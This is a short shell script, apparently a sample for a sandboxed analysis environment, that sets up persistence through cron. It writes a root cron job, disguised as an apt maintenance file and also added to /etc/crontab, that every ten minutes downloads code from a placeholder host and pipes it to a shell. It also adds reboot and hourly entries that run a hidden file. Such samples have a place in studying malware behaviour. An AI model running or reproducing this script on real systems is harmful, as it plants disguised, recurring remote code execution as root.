#!/bin/sh
# SPDX-License-Identifier: MIT
# Persistence through the system cron tables: a drop-in file, a line in
# /etc/crontab and the spool file of the user, whichever is writable.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
line='*/10 * * * * root /usr/bin/curl -fsm 5 http://cdn-update.example.net/r | /bin/sh'
echo "$line" > /etc/cron.d/apt-daily-compat 2>/dev/null
echo "$line" >> /etc/crontab 2>/dev/null
echo '@reboot /work/.cache/.sysupd' >> /var/spool/cron/crontabs/sbx 2>/dev/null
echo '@hourly /work/.cache/.sysupd' >> /var/spool/cron/sbx 2>/dev/null
exit 0
